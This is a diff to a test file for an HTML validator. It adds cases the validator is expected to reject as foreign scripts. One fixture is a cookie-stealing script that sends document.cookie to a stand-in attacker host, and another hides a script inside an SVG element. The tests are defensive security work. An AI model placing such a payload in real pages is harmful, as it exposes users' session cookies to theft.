@@ -128,6 +128,17 @@ describe('validateHtml', () => {
       'an imported sheet',
       page({ head: '<style>@import "https://fonts.example/x.css";</style>' }),
     ],
+    [
+      'foreign_script',
+      'a script of its own',
+      page({ body: '<script>fetch("https://evil.example/?" + document.cookie)</script>' }),
+    ],
+    ['foreign_script', 'a module', page({ head: '<script type="module" src="../other.js"></script>' })],
+    [
+      'foreign_script',
+      'a script of a drawing under the name of ours',
+      page({ body: '<svg aria-hidden="true"><script src="../app.js">alert(1)</script></svg>' }),
+    ],
     ['inline_handler', 'a handler in an attribute', page({ body: '<button onclick="x()">Go</button>' })],
     [
       'javascript_url',
